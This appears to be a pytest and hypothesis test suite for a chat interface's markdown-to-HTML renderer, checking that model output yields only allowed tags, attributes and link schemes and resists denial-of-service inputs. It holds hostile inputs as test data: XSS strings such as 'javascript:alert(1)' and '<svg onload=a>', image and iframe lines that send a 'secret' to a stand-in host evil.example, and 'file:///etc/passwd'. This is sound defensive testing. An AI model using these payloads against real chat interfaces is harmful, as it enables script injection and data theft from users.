"""Whatever a model writes, the HTML holds only what answer_html.py itself can write."""

from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chatkeep_ui.answer_html import LONGEST_COLOURED, LONGEST_PARSED, MOST_COLOURED, answer_html, plain_html, safe_link

TAGS = {
    "a", "article", "blockquote", "br", "button", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "class",
    "href",
    "target",
    "rel",
    "tabindex",
    "role",
    "aria-label",
    "type",
    "data-ck-copy",
    "start",
    "style",
}
STYLES = {"text-align:left", "text-align:right", "text-align:center"}
PIECES = st.sampled_from(
    [
        "![a](http://evil.example/x.png)", "![a][r]", "[r]: http://evil.example/y.png\n", "<img src=//evil.example>",
        "[x](javascript:alert(1))", "[x](data:text/html,y)", "[x](&#106;avascript:x)", "[x](https://ok.example/?q=1)",
        "<script>", "</pre>", "<svg onload=a>", "```", "~~~html\n", "`", "$", "\n", "\n\n", "    ", "> ", "- ", "# ",
        "| a | b |\n|:-:|--:|\n| c | d |\n", "<https://x.example>",
        "<javascript:x>", "]", "[", "(", ")", "!", "\\", '"',
        "'", " onerror=x ", "&lt;", "\u202e", "\0", "\ud800", "\r", "\u2028", "**", "_", "http://evil.example", "text",
    ]
)  # fmt: skip


class Audit(HTMLParser):
    """Fails on any tag, attribute or address that the renderer has no rule for."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            assert name != "style" or value in STYLES
            assert name != "href" or urlsplit(value or "").scheme.lower() in {"http", "https", "mailto"}


@given(st.lists(PIECES, max_size=30).map("".join) | st.text(max_size=300))
@example("![a](http://evil.example/x.png)")
@example("[![a](http://e.example/x)](http://e.example)")
def test_only_our_own_markup_comes_out(markdown: str) -> None:
    html = answer_html(markdown)

    Audit(convert_charrefs=True).feed(html)
    html.encode()


@pytest.mark.parametrize(
    "markdown",
    [
        "![chart](http://evil.example/?q=secret)",
        "![chart][r]\n\n[r]: http://evil.example/?q=secret",
        "<img src='http://evil.example/?q=secret'>",
        "[![chart](http://evil.example/a.png)](http://evil.example)",
        "<style>@import url(http://evil.example)</style>",
        '<link rel="prefetch" href="http://evil.example">',
        "<iframe src=http://evil.example></iframe>",
    ],
)
def test_exfiltration_by_a_remote_image(markdown: str) -> None:
    Audit().feed(answer_html(markdown))


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "vbscript:x",
        "//evil.example", "/sign-out", "?chat=x", "#x", "file:///etc/passwd", "blob:x", "http:evil", "",
    ],
)  # fmt: skip
def test_links_that_lead_into_the_page_or_run_code(url: str) -> None:
    assert not safe_link(url)
    assert "href" not in answer_html(f"[x]({url})")


def test_an_ordinary_link_opens_elsewhere_and_says_nothing_about_us() -> None:
    html = answer_html("[NOAA](https://tides.example/a?b=1&c=2)")

    assert 'href="https://tides.example/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_becomes_its_words() -> None:
    assert '<span class="ck-image">[image: a &lt;b&gt; c]</span>' in answer_html("![a <b> c](http://e.example/x)")


def test_dollars_and_colons_mean_themselves() -> None:
    assert answer_html("It costs $5 to $10 :red[really] :material/home:").strip() == (
        "<p>It costs $5 to $10 :red[really] :material/home:</p>"
    )


def test_code_is_coloured_and_never_markup() -> None:
    html = answer_html('```html"><img\n<img src=x onerror=y>\n```')

    assert "<img" not in html
    assert "&lt;" in html


def block(language: str, length: int) -> str:
    return f"```{language}\n{'a=1 ' * (length // 4 - 1)}\n```\n"


def test_code_is_coloured_once_it_is_whole() -> None:
    assert "ck-c-" in answer_html(block("python", 100))
    assert "ck-c-" not in answer_html(block("python", 100), growing=True)


@pytest.mark.parametrize("language", ["make", "csharp", "markdown", "of-the-future", "\0"])
def test_denial_of_service_by_a_slow_lexer(language: str) -> None:
    assert "ck-c-" not in answer_html(block(language, 100))


def test_denial_of_service_by_long_code() -> None:
    assert "ck-c-" not in answer_html(block("python", LONGEST_COLOURED + 100))


def test_denial_of_service_by_many_blocks_of_code() -> None:
    html = answer_html(block("python", LONGEST_COLOURED) * 20)
    blocks = html.split("<pre")[1:]

    assert sum("ck-c-" in each for each in blocks) <= MOST_COLOURED / (LONGEST_COLOURED - 4)
    assert len(blocks) == 20


@pytest.mark.parametrize(
    "markdown", ["![" * 20_000, "a " * LONGEST_PARSED, "# x\n\n" * 20_000, "[a](" * 20_000, "*a" * 20_000]
)
def test_denial_of_service_by_marks_without_end(markdown: str) -> None:
    html = answer_html(markdown + "<b>")

    assert html.startswith('<div class="ck-plain">')
    assert html.endswith("&lt;b&gt;</div>")
    Audit().feed(html)


@given(st.lists(st.integers(1, 6), min_size=1, max_size=12))
def test_headings_begin_below_the_pages_own_and_skip_no_level(ranks: list[int]) -> None:
    html = answer_html("\n\n".join("#" * rank + " x" for rank in ranks))
    levels = [int(part[0]) for part in html.split("<h")[1:]]

    assert levels[0] == 2
    assert all(2 <= after <= before + 1 for before, after in pairwise(levels))


@given(st.text(max_size=100))
def test_what_people_type_is_shown_as_typed(text: str) -> None:
    assert "<" not in plain_html(text)
